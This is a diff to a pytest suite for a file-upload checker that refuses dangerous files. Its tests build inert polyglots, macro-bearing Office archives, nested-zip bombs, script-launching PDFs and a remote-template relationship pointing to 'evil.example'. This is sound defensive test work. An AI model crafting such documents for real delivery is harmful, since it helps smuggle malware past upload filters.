@@ -10,9 +10,11 @@ import pytest
 from PIL import Image
 
 from tests.factories.people import LONG_AGO
+from tests.files.videos import make_old_office, make_video
 from zhiping.core.errors import RuleViolation
 from zhiping.core.permissions.actor import SYSTEM
 from zhiping.files import actions, queries, rules
+from zhiping.files.actions import storing
 from zhiping.files.models import StoredFile
 
 
@@ -30,8 +32,26 @@ def make_zip(**entries: bytes) -> bytes:
     out = io.BytesIO()
     with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
         for name, content in entries.items():
-            archive.writestr(name, content)
+            archive.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)  # always the same bytes
     return out.getvalue()
+
+
+REMOTE = (
+    b'<Relationships><Relationship Id="rId1" Type="http://schemas.example/attachedTemplate" '
+    b'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
+)
+
+
+def damaged(content: bytes, *, at: int) -> bytes:
+    return content[:at] + bytes([content[at] ^ 0xFF]) + content[at + 1 :]
+
+
+def nested(depth: int) -> bytes:
+    """A document in a document in a document …"""
+    inner = make_zip(**{"word/document.xml": b"x"})
+    for _level in range(depth):
+        inner = make_zip(**{"word/document.xml": b"x", "word/embeddings/inner.docx": inner})
+    return inner
 
 
 def make_picture(kind: str = "PNG") -> bytes:
@@ -68,8 +88,9 @@ def test_what_is_too_large_leaves_nothing_behind() -> None:
         (make_zip(**{"xl/workbook.xml": b"<x/>"}), "xlsx"),
         (make_picture("PNG"), "png"),
         (make_picture("JPEG"), "jpg"),
-        (b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + b"\x00" * 64, "mp4"),
-        (rules.OLD_OFFICE + b"\x00" * 600, "doc"),
+        (make_video(), "mp4"),
+        (make_old_office("WordDocument"), "doc"),
+        (make_old_office("Workbook"), "doc"),
     ],
 )
 def test_a_file_is_known_by_its_content(content: bytes, kind: str) -> None:
@@ -91,6 +112,25 @@ def test_a_file_is_known_by_its_content(content: bytes, kind: str) -> None:
         (make_zip(**{"a.txt": b"plain"}), "file.unknown_type"),
         (b"PK\x03\x04 broken", "file.broken"),
         (make_picture("PNG")[:40], "file.broken"),
+        (make_picture("PNG") + make_zip(**{"a.exe": b"MZ"}), "file.polyglot"),
+        (make_picture("JPEG")[:30] + b"%PDF-1.4" + make_picture("JPEG")[30:], "file.polyglot"),
+        (make_pdf() + make_zip(**{"a.exe": b"MZ"}), "file.polyglot"),
+        (make_zip(**{"word/document.xml": b"x"}) + b"<script>", "file.polyglot"),
+        (make_zip(**{"word/document.xml": b"x", "word/media/a.js": b"x"}), "file.has_macro"),
+        (make_zip(**{"word/document.xml": b"x", "word/media/image1.png": b"MZ\x90"}), "file.has_macro"),
+        (make_zip(**{"word/document.xml": b"x", "word/_rels/settings.xml.rels": REMOTE}), "file.has_macro"),
+        (make_zip(**{"word/document.xml": b"x", "[Content_Types].xml": b"ms-word.macroEnabled"}), "file.has_macro"),
+        (nested(4), "file.bomb"),
+        (damaged(make_zip(**{"word/document.xml": b"0123456789" * 9}), at=52), "file.broken"),
+        (make_zip(**{"word/document.xml": b"x" * 90})[:-60], "file.broken"),
+        (make_video()[:-10], "file.broken"),
+        (make_video().replace(b"moov", b"free"), "file.broken"),
+        (make_video() + make_zip(**{"a.exe": b"MZ"}), "file.broken"),
+        (make_old_office("WordDocument", "Macros"), "file.has_macro"),
+        (make_old_office("WordDocument", locked=True), "file.encrypted"),
+        (make_old_office("EncryptedPackage"), "file.encrypted"),
+        (make_old_office("Root Entry"), "file.unknown_type"),
+        (make_old_office("WordDocument")[:300], "file.broken"),
     ],
 )
 def test_what_is_refused_is_refused_with_its_reason(content: bytes, code: str) -> None:
@@ -116,44 +156,50 @@ def _with(place: str) -> bytes:
         pdf.Root.Names = pikepdf.Dictionary(JavaScript=tree)
     elif place == "launch":
         pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="x.exe")
+    elif place == "xfa":
+        pdf.Root.AcroForm = pikepdf.Dictionary(Fields=[], XFA=pdf.make_stream(b"<xdp/>"))
     elif place == "root":
         pdf.Root.AA = pikepdf.Dictionary(WC=pdf.make_indirect(action))
     pdf.save(out)
     return out.getvalue()
 
 
-@pytest.mark.parametrize("place", ["page", "link", "names", "launch", "root"])
+@pytest.mark.parametrize("place", ["page", "link", "names", "launch", "root", "xfa"])
 def test_a_document_that_runs_something_anywhere_is_refused(place: str) -> None:
     with pytest.raises(RuleViolation, match="file.has_script"):
         rules.inspect(_with(place))
+
+
+def test_a_document_that_carries_another_file_is_refused() -> None:
+    pdf, out = pikepdf.open(io.BytesIO(make_pdf())), io.BytesIO()
+    pdf.attachments["setup.exe"] = b"MZ"
+    pdf.save(out)
+
+    with pytest.raises(RuleViolation, match="file.has_attachment"):
+        rules.inspect(out.getvalue())
 
 
 def test_a_document_that_runs_nothing_is_taken() -> None:
     assert rules.inspect(_with("nowhere")) == rules.Found("pdf", "application/pdf", 1)
 
 
-HEAD_OF_MP4 = b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom"
-
-
 @pytest.mark.django_db
-def test_a_video_may_be_larger_than_what_is_opened_in_memory(monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setattr(actions, "LARGEST", 1000)
-    video = HEAD_OF_MP4 + bytes(5000)
+def test_a_video_may_be_larger_than_a_document(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(storing, "LARGEST", 1000)
+    video = make_video(90, 5000)
 
     stored = actions.store(name="发表.mp4", content=io.BytesIO(video), max_bytes=10_000, by=SYSTEM, at=LONG_AGO)
 
-    assert (stored.size, stored.content_type) == (len(video), "video/mp4")
+    assert (stored.size, stored.content_type, stored.seconds) == (5000, "video/mp4", 90)
     assert queries.open_stored(stored).read() == video
 
 
 @pytest.mark.django_db
-@pytest.mark.parametrize(
-    ("content", "max_bytes"), [(HEAD_OF_MP4 + bytes(5000), 3000), (make_pdf() + bytes(5000), 10_000)]
-)
+@pytest.mark.parametrize(("content", "max_bytes"), [(make_video(size=5000), 3000), (make_pdf() + bytes(5000), 10_000)])
 def test_a_longer_video_or_another_large_file_is_refused(
     content: bytes, max_bytes: int, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    monkeypatch.setattr(actions, "LARGEST", 1000)
+    monkeypatch.setattr(storing, "LARGEST", 1000)
 
     with pytest.raises(RuleViolation, match="file.too_large"):
         actions.store(name="大文件", content=content, max_bytes=max_bytes, by=SYSTEM, at=LONG_AGO)
